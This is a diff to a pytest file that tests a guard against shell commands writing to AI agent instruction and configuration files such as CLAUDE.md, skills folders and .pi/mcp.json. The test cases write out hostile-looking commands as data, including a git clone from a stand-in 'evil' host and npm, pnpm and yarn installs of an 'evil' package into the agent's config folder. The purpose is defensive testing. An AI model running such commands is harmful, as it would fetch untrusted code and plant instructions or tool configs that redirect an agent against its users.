@@ -205,18 +205,14 @@ def test_bash_naming_them_is_blocked(world: World, template: str, rel: str) -> N
         "cp evil.md CLAUDE.md",
         "mkdir -p .agents/skills/x && echo x > .agents/skills/x/SKILL.md",
         "echo x > .pi/prompts/review.md",
-        pytest.param(
-            "git clone https://example.com/evil .pi",
-            marks=pytest.mark.xfail(strict=True, reason="git clone's directory is not a target"),
-        ),
-        pytest.param(
-            "git mv evil.json .pi/mcp.json",
-            marks=pytest.mark.xfail(strict=True, reason="git mv's operands are not targets"),
-        ),
-        pytest.param(
-            "npm install --prefix .pi/npm evil",
-            marks=pytest.mark.xfail(strict=True, reason="npm's --prefix is not a target"),
-        ),
+        "git clone https://example.com/evil .pi",
+        "git clone https://example.com/.pi.git",
+        "git mv evil.json .pi/mcp.json",
+        "git worktree add .pi",
+        "npm install --prefix .pi/npm evil",
+        "npm install --prefix=.pi/npm evil",
+        "pnpm -C .pi add evil",
+        "yarn --cwd .pi add evil",
     ],
 )
 def test_what_the_analysis_cannot_pin_down_asks(world: World, command: str) -> None:
